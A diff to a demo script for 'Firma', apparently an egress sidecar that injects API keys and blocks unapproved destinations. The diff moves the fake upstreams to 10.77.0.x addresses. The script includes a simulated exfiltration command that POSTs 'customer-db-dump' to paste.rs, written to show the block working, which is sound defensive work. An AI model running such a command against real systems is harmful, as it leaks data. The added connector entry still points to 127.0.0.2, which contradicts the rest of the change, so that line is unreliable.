@@ -2,7 +2,7 @@
 # Firma transparent-mode demo (run by `cargo xtask demo`; needs root for eBPF and cgroups).
 #
 # Inside a fresh network namespace (nothing leaves it): starts the Authority, a local HTTPS
-# server posing as api.openai.com on 127.0.0.2:443 that echoes the Authorization header it
+# server posing as api.openai.com on 10.77.0.2:443 that echoes the Authorization header it
 # receives, and `firma sidecar` in transparent mode. Then tags a new cgroup with
 # `firma sidecar attach` and runs UNMODIFIED curl in it, with no proxy variables:
 #   1. curl https://api.openai.com/v1/models     -> allowed; the upstream got Firma's key,
@@ -37,6 +37,9 @@ fi
 show() { printf '    $ %s\n' "$*"; }
 
 ip link set lo up
+# Namespace addresses for the fake upstreams: loopback itself is closed to tagged workloads.
+ip addr add 10.77.0.2/32 dev lo
+ip addr add 10.77.0.3/32 dev lo
 DIR=$(mktemp -d /tmp/firma-demo.XXXXXX)
 CG2=$(awk '$9 == "cgroup2" { print $5; exit }' /proc/self/mountinfo)
 [[ -n "$CG2" ]] || { echo "no cgroup2 mount" >&2; exit 1; }
@@ -127,6 +130,13 @@ public_key_path = "$DIR/authority.pub"
 default_timeout_ms = 5000
 extra_root_certs = ["$DIR/up-ca.crt"]
 
+# Where api.openai.com is (no DNS in the demo's namespace). The sidecar connects only to an
+# address of the decided name, and the connection's original destination must be it
+# (otherwise DestinationMismatch: docs/architecture.md, "Destination binding").
+[[sidecar.connector.hosts]]
+host = "api.openai.com"
+address = "127.0.0.2:443"
+
 [[sidecar.credentials]]
 host = "api.openai.com"
 mode = "basic"
@@ -156,7 +166,7 @@ PIDS+=($!)
 wait_for "$DIR/authority.log" "gRPC listening"
 grep -E "loaded|gRPC listening" "$DIR/authority.log" | sed -E 's/^[^ ]+ +//; s/^/    /'
 
-step "start the fake api.openai.com on 127.0.0.2:443 (echoes the Authorization it receives)"
+step "start the fake api.openai.com on 10.77.0.2:443 (echoes the Authorization it receives)"
 python3 - "$DIR/up.crt" "$DIR/up.key" >"$DIR/upstream.log" 2>&1 <<'PY' &
 import http.server, json, ssl, sys
 class Echo(http.server.BaseHTTPRequestHandler):
@@ -176,11 +186,11 @@ class Echo(http.server.BaseHTTPRequestHandler):
     do_GET = do_POST = reply
     def log_message(self, *a):
         pass
-srv = http.server.ThreadingHTTPServer(("127.0.0.2", 443), Echo)
+srv = http.server.ThreadingHTTPServer(("10.77.0.2", 443), Echo)
 ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
 ctx.load_cert_chain(sys.argv[1], sys.argv[2])
 srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
-print("[upstream] listening on 127.0.0.2:443", flush=True)
+print("[upstream] listening on 10.77.0.2:443", flush=True)
 srv.serve_forever()
 PY
 PIDS+=($!)
@@ -205,22 +215,22 @@ unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy ALL_PROXY all_proxy
 in_cgroup() { sh -c 'echo $$ > "$0/cgroup.procs" && exec "$@"' "$CG_DIR" "$@"; }
 
 step "1. unmodified curl in the tagged cgroup, no proxy variables, sending its own (fake) key"
-show "curl https://api.openai.com/v1/models --resolve api.openai.com:443:127.0.0.2 --cacert ca/firma-ca.crt -H 'Authorization: Bearer sk-agent-own-key'"
+show "curl https://api.openai.com/v1/models --resolve api.openai.com:443:10.77.0.2 --cacert ca/firma-ca.crt -H 'Authorization: Bearer sk-agent-own-key'"
 in_cgroup curl -sS https://api.openai.com/v1/models \
-    --resolve api.openai.com:443:127.0.0.2 --cacert "$DIR/ca/firma-ca.crt" \
+    --resolve api.openai.com:443:10.77.0.2 --cacert "$DIR/ca/firma-ca.crt" \
     -H "Authorization: Bearer sk-agent-own-key" -w '\n    HTTP %{http_code}\n' | sed 's/^{/    {/'
 echo "    upstream log: $(tail -n 1 "$DIR/upstream.log")"
 
-step "2. exfiltration attempt from the same cgroup: paste.rs (resolved to 127.0.0.3, where nothing listens)"
-show "curl -X POST https://paste.rs/ -d 'customer-db-dump' --resolve paste.rs:443:127.0.0.3 --cacert ca/firma-ca.crt"
+step "2. exfiltration attempt from the same cgroup: paste.rs (resolved to 10.77.0.3, where nothing listens)"
+show "curl -X POST https://paste.rs/ -d 'customer-db-dump' --resolve paste.rs:443:10.77.0.3 --cacert ca/firma-ca.crt"
 in_cgroup curl -sS https://paste.rs/ -d 'customer-db-dump' \
-    --resolve paste.rs:443:127.0.0.3 --cacert "$DIR/ca/firma-ca.crt" -w '\n    HTTP %{http_code}\n' | sed 's/^{/    {/'
+    --resolve paste.rs:443:10.77.0.3 --cacert "$DIR/ca/firma-ca.crt" -w '\n    HTTP %{http_code}\n' | sed 's/^{/    {/'
 echo "    upstream requests so far: $(grep -c '^\[upstream\] [A-Z]' "$DIR/upstream.log") (the deny reached nobody)"
 
 step "3. the same curl OUTSIDE the cgroup is not redirected (it must trust the upstream's own CA)"
-show "curl https://api.openai.com/v1/models --resolve api.openai.com:443:127.0.0.2 --cacert up-ca.crt -H 'Authorization: Bearer sk-agent-own-key'"
+show "curl https://api.openai.com/v1/models --resolve api.openai.com:443:10.77.0.2 --cacert up-ca.crt -H 'Authorization: Bearer sk-agent-own-key'"
 curl -sS https://api.openai.com/v1/models \
-    --resolve api.openai.com:443:127.0.0.2 --cacert "$DIR/up-ca.crt" \
+    --resolve api.openai.com:443:10.77.0.2 --cacert "$DIR/up-ca.crt" \
     -H "Authorization: Bearer sk-agent-own-key" -w '\n    HTTP %{http_code}\n' | sed 's/^{/    {/'
 
 step "audit events (signed, hash-chained) for the tagged workload"
